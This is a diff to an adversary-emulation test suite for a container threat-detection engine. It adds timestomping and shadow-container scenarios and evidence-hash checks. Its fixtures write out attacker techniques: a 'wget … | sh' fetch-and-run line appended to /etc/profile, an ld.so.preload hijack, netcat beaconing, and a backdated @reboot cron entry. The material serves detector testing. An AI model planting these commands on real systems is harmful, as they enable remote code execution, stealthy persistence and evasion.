@@ -7,7 +7,7 @@ import { runDetectors, type DetectionResult } from '../../electron/engine/detect
 import { severityRank, type Finding } from '../../shared/domain/finding.js';
 import { SuppressionSchema } from '../../shared/domain/suppression.js';
 import type { EngineEvidence } from '../../shared/domain/evidence-set.js';
-import { BUSYBOX, docker, removeSuite, WEB } from '../helpers/docker.js';
+import { docker, removeSuite, WEB } from '../helpers/docker.js';
 import { addSocketSnapshots, collect, createNetwork, execIn, ipOf, removeNetworks, script, sleep, start } from './harness.js';
 
 /**
@@ -72,6 +72,8 @@ beforeAll(async () => {
     benignKnownHosts: start({ suite: SUITE, ready: true, cmd: script('mkdir -p /root/.ssh; echo "git.example.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKf0bGq1h3kVb4Vb8cCw0Wq5oX9YkN4g0gq2tM3sL0aB" > /root/.ssh/known_hosts') }),
     preload: start({ suite: SUITE, ready: true, cmd: script('mkdir -p /tmp/.lib; echo x > /tmp/.lib/libhide.so; echo /tmp/.lib/libhide.so > /etc/ld.so.preload') }),
     benignLibPath: start({ suite: SUITE, env: ['LD_LIBRARY_PATH=/opt/lib'], ready: true, cmd: script('mkdir -p /opt/lib; echo x > /opt/lib/libapp.so') }),
+    stomper: start({ suite: SUITE, ready: true, cmd: script('mkdir -p /etc/cron.d; echo "@reboot root /bin/true" > /etc/cron.d/sync; touch -d "2019-03-01 00:00:00" /etc/cron.d/sync') }),
+    benignConfig: start({ suite: SUITE, ready: true, cmd: script('mkdir -p /etc/app; echo "port=8080" > /etc/app/app.conf; echo "@reboot root /bin/true" > /etc/crontab') }),
     rc: start({ suite: SUITE, ready: true, cmd: script('echo "wget -q -O- http://127.0.0.1:9/rc | sh" >> /etc/profile') }),
     benignRc: start({ suite: SUITE, ready: true, cmd: script('echo "alias ll=\'ls -l\'" >> /etc/profile') }),
     // Processes.
@@ -89,6 +91,8 @@ beforeAll(async () => {
     // C2 between containers of an internal network.
     server: start({ suite: SUITE, hostConfig: onNet, ready: true, cmd: script('(while true; do nc -l -p 4444 </dev/null >/dev/null; done) & (sleep 3600 | nc -l -p 5555 >/dev/null) & (sleep 3600 | nc -l -p 6666 >/dev/null) &') }),
     webOnNet: start({ suite: SUITE, image: WEB, hostConfig: onNet }),
+    // A container started on the runtime under a kubelet-style name, invisible to the cluster API.
+    shadow: start({ suite: SUITE, name: `k8s_kube-proxy_kube-proxy-${Math.random().toString(36).slice(2, 7)}_kube-system_0a1b2c_0` }),
   };
   Object.assign(c, Object.fromEntries(await Promise.all(Object.entries({ ...created, ...running }).map(async ([k, p]) => [k, await p]))));
   // Addresses, not names: a name lookup could be forwarded by the engine's resolver off the host.
@@ -96,7 +100,7 @@ beforeAll(async () => {
   const webIp = await ipOf(c.webOnNet!);
   const clients = {
     c2client: start({ suite: SUITE, hostConfig: onNet, cmd: ['sh', '-c', `sleep 3600 | nc ${serverIp} 5555`] }),
-    beacon: start({ suite: SUITE, hostConfig: onNet, cmd: ['sh', '-c', `while true; do nc -w 1 ${serverIp} 4444 </dev/null; sleep 1; done`] }),
+    beacon: start({ suite: SUITE, hostConfig: onNet, cmd: ['sh', '-c', `while true; do nc -w 1 ${serverIp} 4444 </dev/null; sleep 0.5; done`] }),
     poller: start({ suite: SUITE, hostConfig: onNet, cmd: ['sh', '-c', `while true; do wget -q -O /dev/null http://${webIp}:8080/ 2>/dev/null; sleep 1; done`] }),
     hostNet: start({ suite: SUITE, hostConfig: { NetworkMode: 'host' }, cmd: ['sh', '-c', `sleep 3600 | nc ${serverIp} 6666`] }),
     execTarget: start({ suite: SUITE }),
@@ -125,8 +129,8 @@ beforeAll(async () => {
 
   const ids = Object.values(c).map((x) => x.id);
   evidence = await collect(ids, since);
-  await addSocketSnapshots(evidence, idOf('beacon'), 4, 1000);
-  await addSocketSnapshots(evidence, idOf('poller'), 4, 1000);
+  // Polling slower than the beacon: every interval sees new connections at a steady rate.
+  await Promise.all([addSocketSnapshots(evidence, idOf('beacon'), 5, 2500), addSocketSnapshots(evidence, idOf('poller'), 5, 2500)]);
   result = runDetectors(evidence, { suppressions: [CI_BASELINE] });
 }, 120_000);
 
@@ -167,6 +171,8 @@ const SCENARIOS: Array<{ detector: string; malicious: string[]; benign: string[]
   { detector: 'inter-container-connection', malicious: ['hostNet'], benign: ['poller'] },
   { detector: 'beaconing', malicious: ['beacon'], benign: ['poller'] },
   { detector: 'exec-into-container', malicious: ['execTarget'], benign: ['benignExecTarget'] },
+  { detector: 'timestomp', malicious: ['stomper'], benign: ['benignConfig', 'benignAttrs'] },
+  { detector: 'shadow-container', malicious: ['shadow'], benign: ['benignWeb'] },
 ];
 
 describe('adversary emulation scenarios (real dockerd)', () => {
@@ -195,6 +201,15 @@ describe('adversary emulation scenarios (real dockerd)', () => {
     const ci = result.suppressed.find((f) => f.detector === 'short-lived-container' && f.container?.id === shortLived.ciJob);
     expect(ci?.suppressedBy).toBe('ci-runners@v1');
     expect(result.findings.some((f) => f.container?.id === shortLived.ciJob)).toBe(false);
+  });
+
+  it('evidence references carry the sha256 of the exact artifact they point at', () => {
+    const priv = findingsFor('privileged').find((f) => f.detector === 'privileged-container')!;
+    const inspect = evidence.containers.find((x) => x.container.id === idOf('privileged'))!.artifacts.find((a) => a.kind === 'inspect')!;
+    expect(priv.evidence[0]!.sha256).toBe(inspect.sha256);
+    const sudo = findingsFor('sudoer').find((f) => f.detector === 'sudoers-nopasswd')!;
+    const file = evidence.containers.find((x) => x.container.id === idOf('sudoer'))!.fileContents.find((f) => f.path === '/etc/sudoers.d/nobody')!;
+    expect(sudo.evidence[0]).toMatchObject({ kind: 'file', ref: '/etc/sudoers.d/nobody', sha256: file.sha256 });
   });
 
   it('immutable-files names both locked files with their flags', () => {
